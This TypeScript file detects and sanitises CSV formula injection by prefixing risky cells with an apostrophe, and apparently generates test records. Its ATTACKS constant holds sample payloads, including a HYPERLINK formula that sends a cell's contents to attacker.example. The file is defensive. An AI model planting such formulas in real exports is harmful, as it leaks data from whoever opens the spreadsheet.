import type { Random } from './random.js';
import type { Cell, SampleRecord } from './records.js';

/** Whether a spreadsheet might evaluate a cell as a formula (OWASP, "CSV Injection"). */
export function isFormula(cell: Cell): boolean {
  // Most cells start with a letter, digit or space, which is never part of a sign.
  if (typeof cell !== 'string' || /^[\w ]/.test(cell)) return false;
  // The compatibility form turns full-width and small signs and digits (`＝`) into plain ones.
  const plain = cell.normalize('NFKC');
  if (/^[=@\t\r\n]/.test(plain)) return true;
  return /^[+-]/.test(plain) && !NUMBER.test(plain) && !TELEPHONE.test(plain);
}
const NUMBER = /^[+-](?:\d[\d.,' ]*|[.,]\d+)(?:e[+-]?\d{1,3})? ?%?$/i;
/** Country code, space, optional area code in parentheses, groups joined by spaces or hyphens. */
const TELEPHONE = /^\+\d{1,3} (?:\(\d{1,5}\) ?)?\d{1,9}(?:[ -]\d{1,9})*$/;

/** Makes a record safe for spreadsheets: an apostrophe marks the rest of a cell as text. */
export function sanitize(record: SampleRecord): SampleRecord {
  const safe = (cell: Cell) => (isFormula(cell) ? `'${String(cell)}` : cell);
  return Object.fromEntries(Object.entries(record).map(([column, cell]) => [column, safe(cell)]));
}

const ATTACKS =
  '=HYPERLINK("https://attacker.example/?"&A2,"Bill")|@SUM(1+1)*A1|-2+3*A1|+1+A2|\t=A1|\r=A1|＝1＋1';
/** Harmless notes that a spreadsheet evaluates nevertheless. */
const ACCIDENTS = '=== FRAGILE ===|@reception|- call first|+/- 2 days|-20 °C';

/** The record with a formula in one of its free texts. */
export function withFormula(random: Random, record: SampleRecord): SampleRecord {
  const columns = ['name', 'company', 'title', 'notes', 'raw_text'];
  const column = random.pick(columns.filter((each) => each in record));
  return { ...record, [column]: random.word(column === 'notes' ? ACCIDENTS : ATTACKS) };
}
